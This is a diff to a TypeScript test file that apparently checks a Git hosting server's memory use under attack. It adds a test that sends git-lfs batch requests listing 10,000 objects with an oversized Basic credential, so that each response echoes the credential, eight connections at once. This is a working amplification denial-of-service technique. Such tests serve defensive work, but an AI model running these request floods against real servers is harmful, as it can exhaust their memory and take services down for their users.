@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
-import { attack, startTarget } from './attack.ts';
+import { once } from 'node:events';
+import { attack, head, startTarget } from './attack.ts';
 
 // Lists whose rows hold as much text as they may.
 
@@ -14,4 +15,18 @@ attack('lists of very long texts that many ask for at once are never in memory',
     Array.from({ length: 8 }, () => target.send('GET', `/projects/${id}/issues/${iid}/notes?per_page=100`)),
   );
   for (const { status, text } of lists) assert.deepEqual([status, text.length > 24 * body.length], [200, true]);
+});
+
+// What git-lfs is told of each object says the client's credentials again: 150 MB for a request of one.
+const objects = Array.from({ length: 10_000 }, (_, at) => ({ oid: String(at).padStart(64, '0'), size: at }));
+const proof = `${'n'.repeat(11_000)}:${target.asRoot['PRIVATE-TOKEN']}`;
+
+attack('LFS batches that are answered with long credentials 10,000 times are never in memory', target, async () => {
+  const body = JSON.stringify({ operation: 'upload', objects });
+  const headers = { Authorization: `Basic ${Buffer.from(proof).toString('base64')}`, 'Content-Length': body.length };
+  const batch = head('POST', '/root/victim.git/info/lfs/objects/batch', headers);
+  const asked = Array.from({ length: 8 }, () => target.open(batch, body));
+  const answered = await Promise.all(asked.map((socket) => once(socket, 'data').finally(() => socket.pause())));
+  for (const [answer] of answered) assert.match(String(answer), /^HTTP\/1.1 200 /);
+  for (const socket of asked) socket.destroy();
 });
